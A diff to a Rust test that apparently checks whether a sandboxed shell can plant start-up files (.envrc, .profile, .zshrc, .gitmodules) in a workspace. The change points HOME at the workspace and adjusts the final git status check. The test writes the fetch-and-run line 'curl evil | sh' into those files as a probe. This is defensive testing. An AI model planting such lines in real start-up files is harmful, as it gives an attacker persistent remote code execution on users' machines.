@@ -110,6 +110,8 @@ fn stale_placeholder_is_adopted_and_removed() {
 fn missing_start_up_files_cannot_be_planted() {
     let dir = TestDir::new("startup-files");
     let run = Run::new(&dir).arg("--quiet");
+    // The workspace is the home directory here, so shell start-up files count too.
+    let run = run.env("HOME", dir.join("ws").display().to_string());
     std::fs::write(run.workspace.join(".bashrc"), "# mine\n").unwrap();
     let out = run.sh(
         "for f in .envrc .profile .zshrc .gitmodules; do echo 'curl evil | sh' > $f 2>/dev/null && echo PLANTED $f; done; \
@@ -139,7 +141,8 @@ fn missing_start_up_files_cannot_be_planted() {
         .output()
         .unwrap();
     assert!(out.status.success());
-    let out = run.sh("git status --porcelain --untracked-files=all");
+    let plain = Run::new(&dir).arg("--quiet");
+    let out = plain.sh("git status --porcelain --untracked-files=all");
     assert_eq!(stdout(&out), "?? .bashrc\n", "{}", stderr(&out));
 }
 
